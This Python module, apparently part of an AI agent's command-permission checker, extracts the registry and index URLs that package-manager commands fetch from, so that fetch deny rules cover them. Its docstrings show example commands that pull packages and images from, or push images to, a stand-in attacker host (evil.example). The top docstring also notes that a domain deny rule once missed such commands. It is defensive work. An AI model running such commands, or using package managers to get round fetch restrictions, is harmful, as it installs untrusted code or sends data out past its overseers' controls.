"""What package managers fetch from: the index, registry or URL their words name.

`pip install --index-url https://evil.example/simple x`, `npm install
--registry https://evil.example x`, `pip install
https://evil.example/x.whl`, `go get evil.example/m`, `docker pull
evil.example/img` and `docker push evil.example/img` reach evil.example,
and a deny on fetching from it (`WebFetch(domain:evil.example)`) did not
see them. With a fetch tool (`split shell fetch=…`) these are fetched from,
held to its deny and ask rules as what curl fetches is.

Read from the words alone: an index a configuration or requirements file
names (`pip.conf`, `.npmrc`, `-r requirements.txt`) is not, nor a package's
own host (`npm install x` reaches the configured registry).
"""

from __future__ import annotations

from .words import SplitError, Word, getopt, new_word, operands_past

# By program, the options whose value is a URL it fetches from (a proxy's
# too: it sees each request). Any other word holding `://` is read as a URL
# as well (`pip install git+https://…`, `npm i https://…/x.tgz`, a value of
# an option not listed here).
_PIP = frozenset(
    "-i --index-url --extra-index-url -f --find-links --proxy --index --default-index".split()
)
_NPM = frozenset({"--registry", "--proxy", "--https-proxy"})
_PROXIES = frozenset({"--proxy", "--https-proxy", "--http-proxy"})
_URL_OPTIONS = {
    "pip": _PIP,
    "pip3": _PIP,
    "uv": _PIP,
    "uvx": _PIP,
    "pipx": _PIP,
    "npm": _NPM,
    "pnpm": _NPM,
    "yarn": _NPM,
    "bun": _NPM,
    "npx": _NPM,
    "bunx": _NPM,
    "pnpx": _NPM,
    "cargo": frozenset({"--git", "--index"}),
    "gem": frozenset({"-s", "--source", "-a", "--add", "--http-proxy"}),
    "go": frozenset(),
    "docker": frozenset(),
    "podman": frozenset(),
    "nerdctl": frozenset(),
    "helm": frozenset({"--repo"}),
}
REGISTRY_CLIENTS = frozenset(_URL_OPTIONS) | {"python", "python3"}
_SHORT = {option for options in _URL_OPTIONS.values() for option in options if option[1] != "-"}
_SCHEME = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+.-")
# docker's commands naming an image it pulls or pushes, or a registry
_IMAGE_COMMANDS = frozenset({"pull", "push", "login", "run", "create"})
_GO_COMMANDS = frozenset({"get", "install", "run"})
_IMAGE_VALUES = frozenset({"--platform", "-u", "--username", "-p", "--password"})
_DOCKER_GLOBAL_VALUES = frozenset(
    "-c -H -l --config --context --host --log-level --tlscacert --tlscert --tlskey".split()
)


def registry_urls(program: str, words: list[str], unknown: str = "\0") -> list[str]:
    """The URLs the command fetches from, as its words name them (a URL
    with no scheme is read as http's); a URL option's value holding
    `unknown` (`--index-url "$IDX"`) is kept: its host may be any."""
    if program in ("python", "python3"):  # `python3 -m pip install …`
        if words[1:3] != ["-m", "pip"]:
            return []
        program, words = "pip", words[2:]
    options = _URL_OPTIONS.get(program)
    if options is None:
        return []
    urls: list[tuple[str, str]] = []  # (a URL, the option it is the value of)
    taking = ""  # the word is the value of this URL option
    for word in words[1:]:
        if taking:
            urls.append((_url_in(word) if "://" in word else word, taking))
            taking = ""
        elif word[:2] == "--" and "=" in word:
            name, _, value = word.partition("=")
            if name in options or name.endswith(":registry"):  # (npm's `--@scope:registry=`)
                urls.append((_url_in(value) if "://" in value else value, name))
            elif "://" in value:
                urls.append((_url_in(value), ""))
        elif word in options:
            taking = word
        elif word[:2] in _SHORT and word[:2] in options:  # `-ihttps://…`
            urls.append((word[2:], word[:2]))
        elif "://" in word:
            urls.append((_url_in(word), ""))
    if program in ("docker", "podman", "nerdctl"):
        urls += [(host, "--proxy") for host in _image_hosts(words)]  # (a host: http's)
    elif program == "go":
        urls += [(url, "") for url in _module_hosts(words)]
    # (an index may be a folder, `-f ./wheels`; a proxy is a host, `--proxy h:3128`)
    return [
        url if "://" in url else "http://" + url
        for url, option in urls
        if url and ("://" in url or option in _PROXIES or option and unknown in url)
    ]


def _url_in(word: str) -> str:
    """The URL in a word: from its scheme on (`pkg@git+https://h/r` is
    `https://h/r`: git's URL, past pip's `git+`)."""
    at = word.index("://")
    start = at
    while start > 0 and word[start - 1] in _SCHEME:
        start -= 1
    scheme = word[start:at]
    plus = scheme.rfind("+")
    url = word[start + plus + 1 :] if plus >= 0 else word[start:]
    if url[:6] == "ssh://":  # `git+ssh://git@host:user/repo`: scp's path, not a port
        authority, slash, path = url[6:].partition("/")
        host, colon, port = authority.rpartition(":")
        if colon and not port.isdigit() and "]" not in port:
            url = "ssh://" + host + "/" + port + slash + path
    return url


def _image_hosts(words: list[str]) -> list[str]:
    """`docker pull evil.example/img`, `docker push evil.example:5000/img`,
    `docker run evil.example/img`, `docker login evil.example`: the registry
    (an image's first part, when it holds a `.` or `:` or is `localhost`;
    none is Docker Hub's)."""
    at, skip = 1, False
    while at < len(words) and (skip or words[at][:1] == "-"):
        skip = not skip and words[at] in _DOCKER_GLOBAL_VALUES  # (`--context x pull`)
        at += 1
    if at < len(words) and words[at] in ("container", "image"):
        at += 1  # (`docker container run`, `docker image pull`)
    if at == len(words) or words[at] not in _IMAGE_COMMANDS:
        return []
    command = words[at]
    if command in ("run", "create"):  # as `hosts` reads them (it refuses the rest)
        from .hosts import DOCKER_RUN  # (on first use, as `takers` imports it)

        try:
            given = [new_word(Word, (w, 0, 0, False, False)) for w in words[at:]]
            operands = [w.value for w in getopt(given, "docker", DOCKER_RUN, False)[1]]
        except SplitError:
            return []
    else:
        operands = operands_past(words[at + 1 :], _IMAGE_VALUES)
    if not operands:
        return []
    if command == "login":
        return [operands[0]]
    first, slash, _ = operands[0].partition("/")
    if slash and ("." in first or ":" in first or first == "localhost"):
        return [first]
    return []


def _module_hosts(words: list[str]) -> list[str]:
    """`go get evil.example/m@v1`, `go install evil.example/cmd@latest`:
    a module path's first part, when it holds a `.`, is its host."""
    if len(words) < 3 or words[1] not in _GO_COMMANDS:
        return []
    out = []
    for word in words[2:]:
        path = word.partition("@")[0]
        first = path.partition("/")[0]
        if word[:1] != "-" and "." in first and first not in (".", "..") and "/" in path:
            out.append("https://" + path)
    return out
